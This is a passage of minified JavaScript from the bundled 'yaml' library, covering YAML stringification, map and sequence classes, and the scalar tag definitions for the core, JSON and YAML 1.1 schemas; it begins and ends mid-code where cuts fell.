t=Object.assign({blockQuote:!0,commentString:nO.stringifyComment,defaultKeyType:null,defaultStringType:"PLAIN",directives:null,doubleQuotedAsJSON:!1,doubleQuotedMinMultiLineLength:40,falseStr:"false",flowCollectionPadding:!0,indentSeq:!0,lineWidth:80,minContentWidth:20,nullStr:"null",simpleKeys:!1,singleQuote:null,trailingComma:!1,trueStr:"true",verifyAliasOrder:!0},n.schema.toStringOptions,e),s;switch(t.collectionStyle){case"block":s=!1;break;case"flow":s=!0;break;default:s=null}return{anchors:new Set,doc:n,flowCollectionPadding:t.flowCollectionPadding?" ":"",indent:"",indentStep:typeof t.indent=="number"?" ".repeat(t.indent):"  ",inFlow:s,options:t}}function rO(n,e){if(e.tag){let i=n.filter(r=>r.tag===e.tag);if(i.length>0)return i.find(r=>r.format===e.format)??i[0]}let t,s;if(bt.isScalar(e)){s=e.value;let i=n.filter(r=>r.identify?.(s));if(i.length>1){let r=i.filter(o=>o.test);r.length>0&&(i=r)}t=i.find(r=>r.format===e.format)??i.find(r=>!r.format)}else s=e,t=n.find(i=>i.nodeClass&&s instanceof i.nodeClass);if(!t){let i=s?.constructor?.name??(s===null?"null":typeof s);throw new Error(`Tag not resolved for ${i} value`)}return t}function oO(n,e,{anchors:t,doc:s}){if(!s.directives)return"";let i=[],r=(bt.isScalar(n)||bt.isCollection(n))&&n.anchor;r&&tO.anchorIsValid(r)&&(t.add(r),i.push(`&${r}`));let o=n.tag??(e.default?null:e.tag);return o&&i.push(s.directives.tagString(o)),i.join(" ")}function aO(n,e,t,s){if(bt.isPair(n))return n.toString(e,t,s);if(bt.isAlias(n)){if(e.doc.directives)return n.toString(e);if(e.resolvedAliases?.has(n))throw new TypeError("Cannot stringify circular structure without alias nodes");e.resolvedAliases?e.resolvedAliases.add(n):e.resolvedAliases=new Set([n]),n=n.resolve(e.doc)}let i,r=bt.isNode(n)?n:e.doc.createNode(n,{onTagObj:c=>i=c});i??(i=rO(e.doc.schema.tags,r));let o=oO(r,i,e);o.length>0&&(e.indentAtStart=(e.indentAtStart??0)+o.length+1);let a=typeof i.stringify=="function"?i.stringify(r,e,t,s):bt.isScalar(r)?sO.stringifyString(r,e,t,s):r.toString(e,t,s);return o?bt.isScalar(r)||a[0]==="{"||a[0]==="["?`${o} ${a}`:`${o}
+${e.indent}${a}`:a}wl.createStringifyContext=iO;wl.stringify=aO});var gg=x(fg=>{"use strict";var it=I(),pg=Q(),dg=vs(),ks=hs();function cO({key:n,value:e},t,s,i){let{allNullValues:r,doc:o,indent:a,indentStep:c,options:{commentString:l,indentSeq:u,simpleKeys:p}}=t,d=it.isNode(n)&&n.comment||null;if(p){if(d)throw new Error("With simple keys, key nodes cannot have comments");if(it.isCollection(n)||!it.isNode(n)&&typeof n=="object"){let M="With simple keys, collection cannot be used as a key value";throw new Error(M)}}let f=!p&&(!n||d&&e==null&&!t.inFlow||it.isCollection(n)||(it.isScalar(n)?n.type===pg.Scalar.BLOCK_FOLDED||n.type===pg.Scalar.BLOCK_LITERAL:typeof n=="object"));t=Object.assign({},t,{allNullValues:!1,implicitKey:!f&&(p||!r),indent:a+c});let m=!1,g=!1,h=dg.stringify(n,t,()=>m=!0,()=>g=!0);if(!f&&!t.inFlow&&h.length>1024){if(p)throw new Error("With simple keys, single line scalar must not span more than 1024 characters");f=!0}if(t.inFlow){if(r||e==null)return m&&s&&s(),h===""?"?":f?`? ${h}`:h}else if(r&&!p||e==null&&f)return h=`? ${h}`,d&&!m?h+=ks.lineComment(h,t.indent,l(d)):g&&i&&i(),h;m&&(d=null),f?(d&&(h+=ks.lineComment(h,t.indent,l(d))),h=`? ${h}
+${a}:`):(h=`${h}:`,d&&(h+=ks.lineComment(h,t.indent,l(d))));let y,w,k;it.isNode(e)?(y=!!e.spaceBefore,w=e.commentBefore,k=e.comment):(y=!1,w=null,k=null,e&&typeof e=="object"&&(e=o.createNode(e))),t.implicitKey=!1,!f&&!d&&it.isScalar(e)&&(t.indentAtStart=h.length+1),g=!1,!u&&c.length>=2&&!t.inFlow&&!f&&it.isSeq(e)&&!e.flow&&!e.tag&&!e.anchor&&(t.indent=t.indent.substring(2));let v=!1,O=dg.stringify(e,t,()=>v=!0,()=>g=!0),R=" ";if(d||y||w){if(R=y?`
+`:"",w){let M=l(w);R+=`
+${ks.indentComment(M,t.indent)}`}O===""&&!t.inFlow?R===`
+`&&k&&(R=`
+
+`):R+=`
+${t.indent}`}else if(!f&&it.isCollection(e)){let M=O[0],S=O.indexOf(`
+`),q=S!==-1,re=t.inFlow??e.flow??e.items.length===0;if(q||!re){let lt=!1;if(q&&(M==="&"||M==="!")){let ee=O.indexOf(" ");M==="&"&&ee!==-1&&ee<S&&O[ee+1]==="!"&&(ee=O.indexOf(" ",ee+1)),(ee===-1||S<ee)&&(lt=!0)}lt||(R=`
+${t.indent}`)}}else(O===""||O[0]===`
+`)&&(R="");return h+=R+O,t.inFlow?v&&s&&s():k&&!v?h+=ks.lineComment(h,t.indent,l(k)):g&&i&&i(),h}fg.stringifyPair=cO});var kl=x(vl=>{"use strict";var mg=require("process");function lO(n,...e){n==="debug"&&console.log(...e)}function uO(n,e){(n==="debug"||n==="warn")&&(typeof mg.emitWarning=="function"?mg.emitWarning(e):console.warn(e))}vl.debug=lO;vl.warn=uO});var Lr=x(Cr=>{"use strict";var Fr=I(),hg=Q(),Nr="<<",Er={identify:n=>n===Nr||typeof n=="symbol"&&n.description===Nr,default:"key",tag:"tag:yaml.org,2002:merge",test:/^<<$/,resolve:()=>Object.assign(new hg.Scalar(Symbol(Nr)),{addToJSMap:yg}),stringify:()=>Nr},pO=(n,e)=>(Er.identify(e)||Fr.isScalar(e)&&(!e.type||e.type===hg.Scalar.PLAIN)&&Er.identify(e.value))&&n?.doc.schema.tags.some(t=>t.tag===Er.tag&&t.default);function yg(n,e,t){let s=bg(n,t);if(Fr.isSeq(s))for(let i of s.items)xl(n,e,i);else if(Array.isArray(s))for(let i of s)xl(n,e,i);else xl(n,e,s)}function xl(n,e,t){let s=bg(n,t);if(!Fr.isMap(s))throw new Error("Merge sources must be maps or map aliases");let i=s.toJSON(null,n,Map);for(let[r,o]of i)e instanceof Map?e.has(r)||e.set(r,o):e instanceof Set?e.add(r):Object.prototype.hasOwnProperty.call(e,r)||Object.defineProperty(e,r,{value:o,writable:!0,enumerable:!0,configurable:!0});return e}function bg(n,e){return n&&Fr.isAlias(e)?e.resolve(n.doc,n):e}Cr.addMergeToJSMap=yg;Cr.isMergeKey=pO;Cr.merge=Er});var Ol=x(kg=>{"use strict";var dO=kl(),wg=Lr(),fO=vs(),vg=I(),Rl=mt();function gO(n,e,{key:t,value:s}){if(vg.isNode(t)&&t.addToJSMap)t.addToJSMap(n,e,s);else if(wg.isMergeKey(n,t))wg.addMergeToJSMap(n,e,s);else{let i=Rl.toJS(t,"",n);if(e instanceof Map)e.set(i,Rl.toJS(s,i,n));else if(e instanceof Set)e.add(i);else{let r=mO(t,i,n),o=Rl.toJS(s,r,n);r in e?Object.defineProperty(e,r,{value:o,writable:!0,enumerable:!0,configurable:!0}):e[r]=o}}return e}function mO(n,e,t){if(e===null)return"";if(typeof e!="object")return String(e);if(vg.isNode(n)&&t?.doc){let s=fO.createStringifyContext(t.doc,{});s.anchors=new Set;for(let r of t.anchors.keys())s.anchors.add(r.anchor);s.inFlow=!0,s.inStringifyKey=!0;let i=n.toString(s);if(!t.mapKeyWarned){let r=JSON.stringify(i);r.length>40&&(r=r.substring(0,36)+'..."'),dO.warn(t.doc.options.logLevel,`Keys with collection values will be stringified due to JS Object restrictions: ${r}. Set mapAsMap: true to use object keys.`),t.mapKeyWarned=!0}return i}return JSON.stringify(e)}kg.addPairToJSMap=gO});var wt=x(Sl=>{"use strict";var xg=ms(),hO=gg(),yO=Ol(),Dr=I();function bO(n,e,t){let s=xg.createNode(n,void 0,t),i=xg.createNode(e,void 0,t);return new Tr(s,i)}var Tr=class n{constructor(e,t=null){Object.defineProperty(this,Dr.NODE_TYPE,{value:Dr.PAIR}),this.key=e,this.value=t}clone(e){let{key:t,value:s}=this;return Dr.isNode(t)&&(t=t.clone(e)),Dr.isNode(s)&&(s=s.clone(e)),new n(t,s)}toJSON(e,t){let s=t?.mapAsMap?new Map:{};return yO.addPairToJSMap(t,s,this)}toString(e,t,s){return e?.doc?hO.stringifyPair(this,e,t,s):JSON.stringify(this)}};Sl.Pair=Tr;Sl.createPair=bO});var Ml=x(Og=>{"use strict";var Ut=I(),Rg=vs(),jr=hs();function wO(n,e,t){return(e.inFlow??n.flow?kO:vO)(n,e,t)}function vO({comment:n,items:e},t,{blockItemPrefix:s,flowChars:i,itemIndent:r,onChompKeep:o,onComment:a}){let{indent:c,options:{commentString:l}}=t,u=Object.assign({},t,{indent:r,type:null}),p=!1,d=[];for(let m=0;m<e.length;++m){let g=e[m],h=null;if(Ut.isNode(g))!p&&g.spaceBefore&&d.push(""),_r(t,d,g.commentBefore,p),g.comment&&(h=g.comment);else if(Ut.isPair(g)){let w=Ut.isNode(g.key)?g.key:null;w&&(!p&&w.spaceBefore&&d.push(""),_r(t,d,w.commentBefore,p))}p=!1;let y=Rg.stringify(g,u,()=>h=null,()=>p=!0);h&&(y+=jr.lineComment(y,r,l(h))),p&&h&&(p=!1),d.push(s+y)}let f;if(d.length===0)f=i.start+i.end;else{f=d[0];for(let m=1;m<d.length;++m){let g=d[m];f+=g?`
+${c}${g}`:`
+`}}return n?(f+=`
+`+jr.indentComment(l(n),c),a&&a()):p&&o&&o(),f}function kO({items:n},e,{flowChars:t,itemIndent:s}){let{indent:i,indentStep:r,flowCollectionPadding:o,options:{commentString:a}}=e;s+=r;let c=Object.assign({},e,{indent:s,inFlow:!0,type:null}),l=!1,u=0,p=[];for(let m=0;m<n.length;++m){let g=n[m],h=null;if(Ut.isNode(g))g.spaceBefore&&p.push(""),_r(e,p,g.commentBefore,!1),g.comment&&(h=g.comment);else if(Ut.isPair(g)){let w=Ut.isNode(g.key)?g.key:null;w&&(w.spaceBefore&&p.push(""),_r(e,p,w.commentBefore,!1),w.comment&&(l=!0));let k=Ut.isNode(g.value)?g.value:null;k?(k.comment&&(h=k.comment),k.commentBefore&&(l=!0)):g.value==null&&w?.comment&&(h=w.comment)}h&&(l=!0);let y=Rg.stringify(g,c,()=>h=null);l||(l=p.length>u||y.includes(`
+`)),m<n.length-1?y+=",":e.options.trailingComma&&(e.options.lineWidth>0&&(l||(l=p.reduce((w,k)=>w+k.length+2,2)+(y.length+2)>e.options.lineWidth)),l&&(y+=",")),h&&(y+=jr.lineComment(y,s,a(h))),p.push(y),u=p.length}let{start:d,end:f}=t;if(p.length===0)return d+f;if(!l){let m=p.reduce((g,h)=>g+h.length+2,2);l=e.options.lineWidth>0&&m>e.options.lineWidth}if(l){let m=d;for(let g of p)m+=g?`
+${r}${i}${g}`:`
+`;return`${m}
+${i}${f}`}else return`${d}${o}${p.join(" ")}${o}${f}`}function _r({indent:n,options:{commentString:e}},t,s,i){if(s&&i&&(s=s.replace(/^\n+/,"")),s){let r=jr.indentComment(e(s),n);t.push(r.trimStart())}}Og.stringifyCollection=wO});var kt=x(Nl=>{"use strict";var xO=Ml(),RO=Ol(),OO=xr(),vt=I(),$r=wt(),SO=Q();function xs(n,e){let t=vt.isScalar(e)?e.value:e;for(let s of n)if(vt.isPair(s)&&(s.key===e||s.key===t||vt.isScalar(s.key)&&s.key.value===t))return s}var Al=class extends OO.Collection{static get tagName(){return"tag:yaml.org,2002:map"}constructor(e){super(vt.MAP,e),this.items=[]}static from(e,t,s){let{keepUndefined:i,replacer:r}=s,o=new this(e),a=(c,l)=>{if(typeof r=="function")l=r.call(t,c,l);else if(Array.isArray(r)&&!r.includes(c))return;(l!==void 0||i)&&o.items.push($r.createPair(c,l,s))};if(t instanceof Map)for(let[c,l]of t)a(c,l);else if(t&&typeof t=="object")for(let c of Object.keys(t))a(c,t[c]);return typeof e.sortMapEntries=="function"&&o.items.sort(e.sortMapEntries),o}add(e,t){let s;vt.isPair(e)?s=e:!e||typeof e!="object"||!("key"in e)?s=new $r.Pair(e,e?.value):s=new $r.Pair(e.key,e.value);let i=xs(this.items,s.key),r=this.schema?.sortMapEntries;if(i){if(!t)throw new Error(`Key ${s.key} already set`);vt.isScalar(i.value)&&SO.isScalarValue(s.value)?i.value.value=s.value:i.value=s.value}else if(r){let o=this.items.findIndex(a=>r(s,a)<0);o===-1?this.items.push(s):this.items.splice(o,0,s)}else this.items.push(s)}delete(e){let t=xs(this.items,e);return t?this.items.splice(this.items.indexOf(t),1).length>0:!1}get(e,t){let i=xs(this.items,e)?.value;return(!t&&vt.isScalar(i)?i.value:i)??void 0}has(e){return!!xs(this.items,e)}set(e,t){this.add(new $r.Pair(e,t),!0)}toJSON(e,t,s){let i=s?new s:t?.mapAsMap?new Map:{};t?.onCreate&&t.onCreate(i);for(let r of this.items)RO.addPairToJSMap(t,i,r);return i}toString(e,t,s){if(!e)return JSON.stringify(this);for(let i of this.items)if(!vt.isPair(i))throw new Error(`Map items must all be pairs; found ${JSON.stringify(i)} instead`);return!e.allNullValues&&this.hasAllNullValues(!1)&&(e=Object.assign({},e,{allNullValues:!0})),xO.stringifyCollection(this,e,{blockItemPrefix:"",flowChars:{start:"{",end:"}"},itemIndent:e.indent||"",onChompKeep:s,onComment:t})}};Nl.YAMLMap=Al;Nl.findPair=xs});var Sn=x(Mg=>{"use strict";var MO=I(),Sg=kt(),AO={collection:"map",default:!0,nodeClass:Sg.YAMLMap,tag:"tag:yaml.org,2002:map",resolve(n,e){return MO.isMap(n)||e("Expected a mapping for this tag"),n},createNode:(n,e,t)=>Sg.YAMLMap.from(n,e,t)};Mg.map=AO});var xt=x(Ag=>{"use strict";var NO=ms(),EO=Ml(),FO=xr(),Pr=I(),CO=Q(),LO=mt(),El=class extends FO.Collection{static get tagName(){return"tag:yaml.org,2002:seq"}constructor(e){super(Pr.SEQ,e),this.items=[]}add(e){this.items.push(e)}delete(e){let t=Ir(e);return typeof t!="number"?!1:this.items.splice(t,1).length>0}get(e,t){let s=Ir(e);if(typeof s!="number")return;let i=this.items[s];return!t&&Pr.isScalar(i)?i.value:i}has(e){let t=Ir(e);return typeof t=="number"&&t<this.items.length}set(e,t){let s=Ir(e);if(typeof s!="number")throw new Error(`Expected a valid index, not ${e}.`);let i=this.items[s];Pr.isScalar(i)&&CO.isScalarValue(t)?i.value=t:this.items[s]=t}toJSON(e,t){let s=[];t?.onCreate&&t.onCreate(s);let i=0;for(let r of this.items)s.push(LO.toJS(r,String(i++),t));return s}toString(e,t,s){return e?EO.stringifyCollection(this,e,{blockItemPrefix:"- ",flowChars:{start:"[",end:"]"},itemIndent:(e.indent||"")+"  ",onChompKeep:s,onComment:t}):JSON.stringify(this)}static from(e,t,s){let{replacer:i}=s,r=new this(e);if(t&&Symbol.iterator in Object(t)){let o=0;for(let a of t){if(typeof i=="function"){let c=t instanceof Set?a:String(o++);a=i.call(t,c,a)}r.items.push(NO.createNode(a,void 0,s))}}return r}};function Ir(n){let e=Pr.isScalar(n)?n.value:n;return e&&typeof e=="string"&&(e=Number(e)),typeof e=="number"&&Number.isInteger(e)&&e>=0?e:null}Ag.YAMLSeq=El});var Mn=x(Eg=>{"use strict";var DO=I(),Ng=xt(),TO={collection:"seq",default:!0,nodeClass:Ng.YAMLSeq,tag:"tag:yaml.org,2002:seq",resolve(n,e){return DO.isSeq(n)||e("Expected a sequence for this tag"),n},createNode:(n,e,t)=>Ng.YAMLSeq.from(n,e,t)};Eg.seq=TO});var Rs=x(Fg=>{"use strict";var jO=ws(),_O={identify:n=>typeof n=="string",default:!0,tag:"tag:yaml.org,2002:str",resolve:n=>n,stringify(n,e,t,s){return e=Object.assign({actualString:!0},e),jO.stringifyString(n,e,t,s)}};Fg.string=_O});var qr=x(Dg=>{"use strict";var Cg=Q(),Lg={identify:n=>n==null,createNode:()=>new Cg.Scalar(null),default:!0,tag:"tag:yaml.org,2002:null",test:/^(?:~|[Nn]ull|NULL)?$/,resolve:()=>new Cg.Scalar(null),stringify:({source:n},e)=>typeof n=="string"&&Lg.test.test(n)?n:e.options.nullStr};Dg.nullTag=Lg});var Fl=x(jg=>{"use strict";var $O=Q(),Tg={identify:n=>typeof n=="boolean",default:!0,tag:"tag:yaml.org,2002:bool",test:/^(?:[Tt]rue|TRUE|[Ff]alse|FALSE)$/,resolve:n=>new $O.Scalar(n[0]==="t"||n[0]==="T"),stringify({source:n,value:e},t){if(n&&Tg.test.test(n)){let s=n[0]==="t"||n[0]==="T";if(e===s)return n}return e?t.options.trueStr:t.options.falseStr}};jg.boolTag=Tg});var An=x(_g=>{"use strict";function IO({format:n,minFractionDigits:e,tag:t,value:s}){if(typeof s=="bigint")return String(s);let i=typeof s=="number"?s:Number(s);if(!isFinite(i))return isNaN(i)?".nan":i<0?"-.inf":".inf";let r=Object.is(s,-0)?"-0":JSON.stringify(s);if(!n&&e&&(!t||t==="tag:yaml.org,2002:float")&&/^-?\d/.test(r)&&!r.includes("e")){let o=r.indexOf(".");o<0&&(o=r.length,r+=".");let a=e-(r.length-o-1);for(;a-- >0;)r+="0"}return r}_g.stringifyNumber=IO});var Ll=x(Ur=>{"use strict";var PO=Q(),Cl=An(),qO={identify:n=>typeof n=="number",default:!0,tag:"tag:yaml.org,2002:float",test:/^(?:[-+]?\.(?:inf|Inf|INF)|\.nan|\.NaN|\.NAN)$/,resolve:n=>n.slice(-3).toLowerCase()==="nan"?NaN:n[0]==="-"?Number.NEGATIVE_INFINITY:Number.POSITIVE_INFINITY,stringify:Cl.stringifyNumber},UO={identify:n=>typeof n=="number",default:!0,tag:"tag:yaml.org,2002:float",format:"EXP",test:/^[-+]?(?:\.[0-9]+|[0-9]+(?:\.[0-9]*)?)[eE][-+]?[0-9]+$/,resolve:n=>parseFloat(n),stringify(n){let e=Number(n.value);return isFinite(e)?e.toExponential():Cl.stringifyNumber(n)}},HO={identify:n=>typeof n=="number",default:!0,tag:"tag:yaml.org,2002:float",test:/^[-+]?(?:\.[0-9]+|[0-9]+\.[0-9]*)$/,resolve(n){let e=new PO.Scalar(parseFloat(n)),t=n.indexOf(".");return t!==-1&&n[n.length-1]==="0"&&(e.minFractionDigits=n.length-t-1),e},stringify:Cl.stringifyNumber};Ur.float=HO;Ur.floatExp=UO;Ur.floatNaN=qO});var Tl=x(Yr=>{"use strict";var $g=An(),Hr=n=>typeof n=="bigint"||Number.isInteger(n),Dl=(n,e,t,{intAsBigInt:s})=>s?BigInt(n):parseInt(n.substring(e),t);function Ig(n,e,t){let{value:s}=n;return Hr(s)&&s>=0?t+s.toString(e):$g.stringifyNumber(n)}var YO={identify:n=>Hr(n)&&n>=0,default:!0,tag:"tag:yaml.org,2002:int",format:"OCT",test:/^0o[0-7]+$/,resolve:(n,e,t)=>Dl(n,2,8,t),stringify:n=>Ig(n,8,"0o")},BO={identify:Hr,default:!0,tag:"tag:yaml.org,2002:int",test:/^[-+]?[0-9]+$/,resolve:(n,e,t)=>Dl(n,0,10,t),stringify:$g.stringifyNumber},WO={identify:n=>Hr(n)&&n>=0,default:!0,tag:"tag:yaml.org,2002:int",format:"HEX",test:/^0x[0-9a-fA-F]+$/,resolve:(n,e,t)=>Dl(n,2,16,t),stringify:n=>Ig(n,16,"0x")};Yr.int=BO;Yr.intHex=WO;Yr.intOct=YO});var qg=x(Pg=>{"use strict";var GO=Sn(),VO=qr(),zO=Mn(),JO=Rs(),KO=Fl(),jl=Ll(),_l=Tl(),XO=[GO.map,zO.seq,JO.string,VO.nullTag,KO.boolTag,_l.intOct,_l.int,_l.intHex,jl.floatNaN,jl.floatExp,jl.float];Pg.schema=XO});var Yg=x(Hg=>{"use strict";var ZO=Q(),QO=Sn(),eS=Mn();function Ug(n){return typeof n=="bigint"||Number.isInteger(n)}var Br=({value:n})=>JSON.stringify(n),tS=[{identify:n=>typeof n=="string",default:!0,tag:"tag:yaml.org,2002:str",resolve:n=>n,stringify:Br},{identify:n=>n==null,createNode:()=>new ZO.Scalar(null),default:!0,tag:"tag:yaml.org,2002:null",test:/^null$/,resolve:()=>null,stringify:Br},{identify:n=>typeof n=="boolean",default:!0,tag:"tag:yaml.org,2002:bool",test:/^true$|^false$/,resolve:n=>n==="true",stringify:Br},{identify:Ug,default:!0,tag:"tag:yaml.org,2002:int",test:/^-?(?:0|[1-9][0-9]*)$/,resolve:(n,e,{intAsBigInt:t})=>t?BigInt(n):parseInt(n,10),stringify:({value:n})=>Ug(n)?n.toString():JSON.stringify(n)},{identify:n=>typeof n=="number",default:!0,tag:"tag:yaml.org,2002:float",test:/^-?(?:0|[1-9][0-9]*)(?:\.[0-9]*)?(?:[eE][-+]?[0-9]+)?$/,resolve:n=>parseFloat(n),stringify:Br}],nS={default:!0,tag:"",test:/^/,resolve(n,e){return e(`Unresolved plain scalar ${JSON.stringify(n)}`),n}},sS=[QO.map,eS.seq].concat(tS,nS);Hg.schema=sS});var Il=x(Bg=>{"use strict";var Os=require("buffer"),$l=Q(),iS=ws(),rS={identify:n=>n instanceof Uint8Array,default:!1,tag:"tag:yaml.org,2002:binary",resolve(n,e){if(typeof Os.Buffer=="function")return Os.Buffer.from(n,"base64");if(typeof atob=="function"){let t=atob(n.replace(/[\n\r]/g,"")),s=new Uint8Array(t.length);for(let i=0;i<t.length;++i)s[i]=t.charCodeAt(i);return s}else return e("This environment does not support reading binary tags; either Buffer or atob is required"),n},stringify({comment:n,type:e,value:t},s,i,r){if(!t)return"";let o=t,a;if(typeof Os.Buffer=="function")a=o instanceof Os.Buffer?o.toString("base64"):Os.Buffer.from(o.buffer).toString("base64");else if(typeof btoa=="function"){let c="";for(let l=0;l<o.length;++l)c+=String.fromCharCode(o[l]);a=btoa(c)}else throw new Error("This environment does not support writing binary tags; either Buffer or btoa is required");if(e??(e=$l.Scalar.BLOCK_LITERAL),e!==$l.Scalar.QUOTE_DOUBLE){let c=Math.max(s.options.lineWidth-s.indent.length,s.options.minContentWidth),l=Math.ceil(a.length/c),u=new Array(l);for(let p=0,d=0;p<l;++p,d+=c)u[p]=a.substr(d,c);a=u.join(e===$l.Scalar.BLOCK_LITERAL?`
+`:" ")}return iS.stringifyString({comment:n,type:e,value:a},s,i,r)}};Bg.binary=rS});var Vr=x(Gr=>{"use strict";var Wr=I(),Pl=wt(),oS=Q(),aS=xt();function Wg(n,e){if(Wr.isSeq(n))for(let t=0;t<n.items.length;++t){let s=n.items[t];if(!Wr.isPair(s)){if(Wr.isMap(s)){s.items.length>1&&e("Each pair must have its own sequence indicator");let i=s.items[0]||new Pl.Pair(new oS.Scalar(null));if(s.commentBefore&&(i.key.commentBefore=i.key.commentBefore?`${s.commentBefore}
+${i.key.commentBefore}`:s.commentBefore),s.comment){let r=i.value??i.key;r.comment=r.comment?`${s.comment}
+${r.comment}`:s.comment}s=i}n.items[t]=Wr.isPair(s)?s:new Pl.Pair(s)}}else e("Expected a sequence for this tag");return n}function Gg(n,e,t){let{replacer:s}=t,i=new aS.YAMLSeq(n);i.tag="tag:yaml.org,2002:pairs";let r=0;if(e&&Symbol.iterator in Object(e))for(let o of e){typeof s=="function"&&(o=s.call(e,String(r++),o));let a,c;if(Array.isArray(o))if(o.length===2)a=o[0],c=o[1];else throw new TypeError(`Expected [key, value] tuple: ${o}`);else if(o&&o instanceof Object){let l=Object.keys(o);if(l.length===1)a=l[0],c=o[a];else throw new TypeError(`Expected tuple with one key, not ${l.length} keys`)}else a=o;i.items.push(Pl.createPair(a,c,t))}return i}var cS={collection:"seq",default:!1,tag:"tag:yaml.org,2002:pairs",resolve:Wg,createNode:Gg};Gr.createPairs=Gg;Gr.pairs=cS;Gr.resolvePairs=Wg});var Hl=x(Ul=>{"use strict";var Vg=I(),ql=mt(),Ss=kt(),lS=xt(),zg=Vr(),Ht=class n extends lS.YAMLSeq{constructor(){super(),this.add=Ss.YAMLMap.prototype.add.bind(this),this.delete=Ss.YAMLMap.prototype.delete.bind(this),this.get=Ss.YAMLMap.prototype.get.bind(this),this.has=Ss.YAMLMap.prototype.has.bind(this),this.set=Ss.YAMLMap.prototype.set.bind(this),this.tag=n.tag}toJSON(e,t){if(!t)return super.toJSON(e);let s=new Map;t?.onCreate&&t.onCreate(s);for(let i of this.items){let r,o;if(Vg.isPair(i)?(r=ql.toJS(i.key,"",t),o=ql.toJS(i.value,r,t)):r=ql.toJS(i,"",t),s.has(r))throw new Error("Ordered maps must not include duplicate keys");s.set(r,o)}return s}static from(e,t,s){let i=zg.createPairs(e,t,s),r=new this;return r.items=i.items,r}};Ht.tag="tag:yaml.org,2002:omap";var uS={collection:"seq",identify:n=>n instanceof Map,nodeClass:Ht,default:!1,tag:"tag:yaml.org,2002:omap",resolve(n,e){let t=zg.resolvePairs(n,e),s=[];for(let{key:i}of t.items)Vg.isScalar(i)&&(s.includes(i.value)?e(`Ordered maps must not include duplicate keys: ${i.value}`):s.push(i.value));return Object.assign(new Ht,t)},createNode:(n,e,t)=>Ht.from(n,e,t)};Ul.YAMLOMap=Ht;Ul.omap=uS});var Qg=x(Yl=>{"use strict";var Jg=Q();function Kg({value:n,source:e},t){return e&&(n?Xg:Zg).test.test(e)?e:n?t.options.trueStr:t.options.falseStr}var Xg={identify:n=>n===!0,default:!0,tag:"tag:yaml.org,2002:bool",test:/^(?:Y|y|[Yy]es|YES|[Tt]rue|TRUE|[Oo]n|ON)$/,resolve:()=>new Jg.Scalar(!0),stringify:Kg},Zg={identify:n=>n===!1,default:!0,tag:"tag:yaml.org,2002:bool",test:/^(?:N|n|[Nn]o|NO|[Ff]alse|FALSE|[Oo]ff|OFF)$/,resolve:()=>new Jg.Scalar(!1),stringify:Kg};Yl.falseTag=Zg;Yl.trueTag=Xg});var em=x(zr=>{"use strict";var pS=Q(),Bl=An(),dS={identify:n=>typeof n=="number",default:!0,tag:"tag:yaml.org,2002:float",test:/^(?:[-+]?\.(?:inf|Inf|INF)|\.nan|\.NaN|\.NAN)$/,resolve:n=>n.slice(-3).toLowerCase()==="nan"?NaN:n[0]==="-"?Number.NEGATIVE_INFINITY:Number.POSITIVE_INFINITY,stringify:Bl.stringifyNumber},fS={identify:n=>typeof n=="number",default:!0,tag:"tag:yaml.org,2002:float",format:"EXP",test:/^[-+]?(?:[0-9][0-9_]*)?(?:\.[0-9_]*)?[eE][-+]?[0-9]+$/,resolve:n=>parseFloat(n.replace(/_/g,"")),stringify(n){let e=Number(n.value);return isFinite(e)?e.toExponential():Bl.stringifyNumber(n)}},gS={identify:n=>typeof n=="number",default:!0,tag:"tag:yaml.org,2002:float",test:/^[-+]?(?:[0-9][0-9_]*)?\.[0-9_]*$/,resolve(n){let e=new pS.Scalar(parseFloat(n.replace(/_/g,""))),t=n.indexOf(".");if(t!==-1){let s=n.substring(t+1).replace(/_/g,"");s[s.length-1]==="0"&&(e.minFractionDigits=s.length)}return e},stringify:Bl.stringifyNumber};zr.float=gS;zr.floatExp=fS;zr.floatNaN=dS});var nm=x(As=>{"use strict";var tm=An(),Ms=n=>typeof n=="bigint"||Number.isInteger(n);function Jr(n,e,t,{intAsBigInt:s}){let i=n[0];if((i==="-"||i==="+")&&(e+=1),n=n.substring(e).replace(/_/g,""),s){switch(t){case 2:n=`0b${n}`;break;case 8:n=`0o${n}`;break;case 16:n=`0x${n}`;break}let o=BigInt(n);return i==="-"?BigInt(-1)*o:o}let r=parseInt(n,t);return i==="-"?-1*r:r}function Wl(n,e,t){let{value:s}=n;if(Ms(s)){let i=s.toString(e);return s<0?"-"+t+i.substr(1):t+i}return tm.stringifyNumber(n)}var mS={identify:Ms,default:!0,tag:"tag:yaml.org,2002:int",format:"BIN",test:/^[-+]?0b[0-1_]+$/,resolve:(n,e,t)=>Jr(n,2,2,t),stringify:n=>Wl(n,2,"0b")},hS={identify:Ms,default:!0,tag:"tag:yaml.org,2002:int",format:"OCT",test:/^[-+]?0[0-7_]+$/,resolve:(n,e,t)=>Jr(n,1,8,t),stringify:n=>Wl(n,8,"0")},yS={identify:Ms,default:!0,tag:"tag:yaml.org,2002:int",test:/^[-+]?[0-9][0-9_]*$/,resolve:(n,e,t)=>Jr(n,0,10,t),stringify:tm.stringifyNumber},bS={identify:Ms,default:!0,tag:"tag:yaml.org,2002:int",format:"HEX",test:/^[-+]?0x[0-9a-fA-F_]+$/,resolve:(n,e,t)=>Jr(n,2,16,t),stringify:n=>Wl(n,16,"0x")};As.int=yS;As.intBin=mS;As.intHex=bS;As.intOct=hS});var Vl=x(Gl=>{"use strict";var Zr=I(),Kr=wt(),Xr=kt(),Yt=class n extends Xr.YAMLMap{constructor(e){super(e),this.tag=n.tag}add(e){let t;Zr.isPair(e)?t=e:e&&typeof e=="object"&&"key"in e&&"value"in e&&e.value===null?t=new Kr.Pair(e.key,null):t=new Kr.Pair(e,null),Xr.findPair(this.items,t.key)||this.items.push(t)}get(e,t){let s=Xr.findPair(this.items,e);return!t&&Zr.isPair(s)?Zr.isScalar(s.key)?s.key.value:s.key:s}set(e,t){if(typeof t!="boolean")throw new Error(`Expected boolean value for set(key, value) in a YAML set, not ${typeof t}`);let s=Xr.findPair(this.items,e);s&&!t?this.items.splice(this.items.indexOf(s),1):!s&&t&&this.items.push(new Kr.Pair(e))}toJSON(e,t){return super.toJSON(e,t,Set)}toString(e,t,s){if(!e)return JSON.stringify(this);if(this.hasAllNullValues(!0))return super.toString(Object.assign({},e,{allNullValues:!0}),t,s);throw new Error("Set items must all have null values")}static from(e,t,s){let{replacer:i}=s,r=new this(e);if(t&&Symbol.iterator in Object(t))for(let o of t)typeof i=="function"&&(o=i.call(t,o,o)),r.items.push(Kr.createPair(o,null,s));return r}};Yt.tag="tag:yaml.org,2002:set";var wS={collection:"map",identify:n=>n instanceof 